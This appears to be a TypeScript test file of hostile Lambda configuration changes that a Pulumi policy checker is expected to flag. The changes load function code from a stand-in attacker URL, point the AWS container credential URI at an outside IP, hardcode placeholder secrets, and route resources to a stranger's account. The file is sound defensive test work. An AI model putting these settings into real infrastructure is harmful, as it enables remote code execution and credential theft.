import { declare } from "../support/declare";
import { says, STRANGER, stops, type Change } from "./case";

const SECRETS = "fd-lambda-function-environment-secrets";

const variable = (title: string, rule: string, name: string, value: string): Change =>
  stops("buffered", title, rule, (program) => {
    program.set(program.get("function"), `environment.variables.${name}`, value);
    return [];
  });

export const FUNCTIONS: readonly Change[] = [
  stops("buffered", "an archive with a part from a URL", "fd-lambda-function-code-source", (program) => {
    program.set(program.get("function"), "code", {
      "4dabf18193072939515e22adb298388d": "0def7320c3a5731c473e5ecbe6d01bc7",
      __pulumiArchive: true,
      assets: {
        "index.mjs": {
          "4dabf18193072939515e22adb298388d": "c44067f5952c0a294b673a41bacd8c17",
          __pulumiAsset: true,
          uri: "https://evil.example/index.mjs",
        },
      },
    });
    return [];
  }),
  variable("a database's password by the end of its name", SECRETS, "DB_PASS", "hunter2hunter2"),
  variable("a secret that begins with a slash", SECRETS, "API_SECRET", "/Zk93jdh2kd8s7fh3j2kd"),
  variable(
    "credentials from an address of somebody's choice",
    "fd-lambda-function-environment-hijack",
    "AWS_CONTAINER_CREDENTIALS_FULL_URI",
    "http://203.0.113.7/credentials",
  ),
  stops("buffered", "prompts that fail, sent to a queue of another account", "fd-stack-accounts", (program) => [
    declare("aws:lambda/functionEventInvokeConfig:FunctionEventInvokeConfig", "retries", {
      functionName: program.get("function").out("name"),
      maximumRetryAttempts: 2,
      destinationConfig: { onFailure: { destination: `arn:aws:sqs:us-east-1:${STRANGER}:failed` } },
    }),
  ]),
  stops(
    "url",
    "an alias that sends a part of the requests to an old version",
    "fd-lambda-function-code-source",
    (program) => {
      program.set(program.get("alias"), "routingConfig", { additionalVersionWeights: { "1": 0.5 } });
      return [];
    },
  ),
  says(
    "production",
    "a reservation of nine hundred agents at once",
    "fd-lambda-function-reserved-concurrency",
    (program) => {
      program.set(program.get("function"), "reservedConcurrentExecutions", 900);
      return [];
    },
  ),
  stops(
    "buffered",
    "an agent of another account, in a variable of another name",
    "fd-stack-accounts fd-lambda-function-agent-runtime",
    (program) => {
      program.set(
        program.get("function"),
        "environment.variables.AGENT_ARN",
        `arn:aws:bedrock-agentcore:us-east-1:${STRANGER}:runtime/theirs-a1b2c3d4e5`,
      );
      return [];
    },
  ),
  stops("buffered", "an image of another account", "fd-stack-accounts", (program) => {
    const fn = program.get("function");
    program.set(fn, "code", undefined);
    program.set(fn, "handler", undefined);
    program.set(fn, "runtime", undefined);
    program.set(fn, "packageType", "Image");
    program.set(fn, "imageUri", `${STRANGER}.dkr.ecr.us-east-1.amazonaws.com/door@sha256:${"ab".repeat(32)}`);
    return [];
  }),
];
